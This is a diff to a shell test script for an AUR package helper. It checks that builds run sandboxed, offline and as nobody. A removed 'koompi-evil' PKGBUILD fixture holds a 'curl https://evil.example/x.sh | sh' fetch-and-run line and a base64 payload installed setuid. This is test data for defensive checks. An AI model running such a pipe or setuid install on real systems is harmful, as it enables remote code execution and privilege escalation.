@@ -4,16 +4,19 @@
 # as static files chosen by the query, PKGBUILD repositories over git's dumb HTTP. Search and
 # info (the PKGBUILD in the facts, a malicious-looking one returned as it is); a clean package
 # built by makepkg as nobody, without network in build(); a build that fails (a clear error,
-# nothing left behind); an unknown package; the network down. Then the built package installed
+# nothing left behind); an unknown package; the network down. build() writing to /var/tmp
+# leaves nothing there: the sandbox's /var/tmp is its own. Then the built package installed
 # into a new root by a real pacman through koompi-boot update, the old root untouched.
 . "$(dirname "$0")/lib.sh"
 . "$(dirname "$0")/lib-nginx.sh"
+. "$(dirname "$0")/lib-aur.sh"
 . "$(dirname "$0")/lib-roots.sh"
 . "$(dirname "$0")/lib-figures.sh"
 AUR=$(dirname "$K")/koompi-pkg-aur
 RUNDIR=""
 RUN_MADE=""
 leave_run() {
+	rm -f /var/tmp/koompi-build-leftover
 	[ -z "$RUNDIR" ] || rm -rf "$RUNDIR"
 	[ -z "$RUN_MADE" ] || rmdir /run/koompi 2>/dev/null
 }
@@ -23,36 +26,10 @@ for tool in nginx curl git makepkg fakeroot python3; do
 done
 [ -x "$AUR" ] || { not_ok "koompi-pkg-aur is built" "make $AUR"; finish; exit 1; }
 
-# The RPC's answers are files: /rpc/info-NAME.json and /rpc/search-TEXT.json.
-NGINX_SERVER_EXTRA='location = /rpc/ {
-            if ($args ~ "^v=5&type=info&arg\[\]=(?<q>[A-Za-z0-9@._+-]+)$") { rewrite ^ /rpc/info-$q.json break; }
-            if ($args ~ "^v=5&type=search&arg=(?<q>[A-Za-z0-9@._+-]+)$") { rewrite ^ /rpc/search-$q.json break; }
-            return 400;
-        }'
+NGINX_SERVER_EXTRA=$AUR_NGINX
 check "nginx on 127.0.0.1" start_nginx
 mkdir -p "$T/mirror/rpc" "$T/mirror/files" "$T/pkgs"
 echo "from the network" >"$T/mirror/files/data.txt"
-
-# result NAME DESCRIPTION VOTES MAINTAINER: one RPC result.
-result() {
-	printf '{"ID":1,"Name":"%s","PackageBaseID":1,"PackageBase":"%s","Version":"1.0-1","Description":"%s",' "$1" "$1" "$2"
-	printf '"URL":null,"NumVotes":%s,"Popularity":0.25,"OutOfDate":null,"Maintainer":%s,' "$3" "$4"
-	printf '"FirstSubmitted":1700000000,"LastModified":1760000000,"URLPath":"/cgit/aur.git/snapshot/%s.tar.gz"}' "$1"
-}
-answer() { printf '{"version":5,"type":"%s","resultcount":%s,"results":[%s]}\n' "$1" "$2" "$3"; }
-
-# package NAME PKGBUILD-BODY: a git repository NAME.git with that PKGBUILD, served over dumb
-# HTTP, and its info answer.
-package() {
-	w=$T/work-$1
-	mkdir -p "$w"
-	printf 'pkgname=%s\npkgver=1.0\npkgrel=1\npkgdesc="A test package"\narch=(any)\nlicense=(MIT)\n%s\n' \
-		"$1" "$2" >"$w/PKGBUILD"
-	git -C "$w" init -q && git -C "$w" add PKGBUILD &&
-		git -C "$w" -c user.name=t -c user.email=t@t commit -qm "$1" &&
-		git clone -q --bare "$w" "$T/mirror/$1.git" && git -C "$T/mirror/$1.git" update-server-info || return 1
-	answer multiinfo 1 "$(result "$1" "A test package" 3 '"alice"')" >"$T/mirror/rpc/info-$1.json"
-}
 
 package koompi-hello "source=(\"$MIRROR/files/data.txt\")
 sha256sums=(SKIP)
@@ -60,6 +37,7 @@ build() {
 	cp data.txt hello.txt
 	if curl -s --max-time 3 -o /dev/null $MIRROR/files/data.txt; then echo online; else echo offline; fi >net.txt
 	id -un >user.txt
+	: >/var/tmp/koompi-build-leftover || :
 }
 package() {
 	install -Dm644 hello.txt net.txt user.txt -t \"\$pkgdir/usr/share/koompi-hello\"
@@ -69,13 +47,7 @@ package koompi-broken 'build() {
 	false
 }
 package() { :; }' || not_ok "a failing PKGBUILD repository"
-package koompi-evil 'build() {
-	curl -s https://evil.example/x.sh | sh
-	echo ZWNobyBvd25lZAo= | base64 -d >payload
-}
-package() {
-	install -Dm4755 payload "$pkgdir/usr/bin/payload"
-}' || not_ok "a malicious-looking PKGBUILD repository"
+package koompi-evil "$AUR_EVIL" || not_ok "a malicious-looking PKGBUILD repository"
 answer search 2 "$(result koompi-hello "A test package" 3 '"alice"'),$(result koompi-evil "Looks useful" 0 null)" \
 	>"$T/mirror/rpc/search-koompi.json"
 answer search 0 "" >"$T/mirror/rpc/search-nothing.json"
@@ -121,6 +93,7 @@ check "it is a real package holding the built file" sh -c "bsdtar -xOf '$PKG' us
 check "its sources came over the network" sh -c "grep -q 'GET /files/data.txt' '$T/nginx/access.log'"
 check "build() ran without network" sh -c "bsdtar -xOf '$PKG' usr/share/koompi-hello/net.txt | grep -qx offline"
 check "build() ran as nobody" sh -c "bsdtar -xOf '$PKG' usr/share/koompi-hello/user.txt | grep -qx nobody"
+check "build() left nothing in /var/tmp: it had a private one" test ! -e /var/tmp/koompi-build-leftover
 check "the package file belongs to root" test "$(stat -c %u "$PKG")" -eq 0
 check "no build tree is left by a build" test "$(left_behind)" -eq "$before"
 # The same by hand, for the figures: clone and makepkg as nobody.
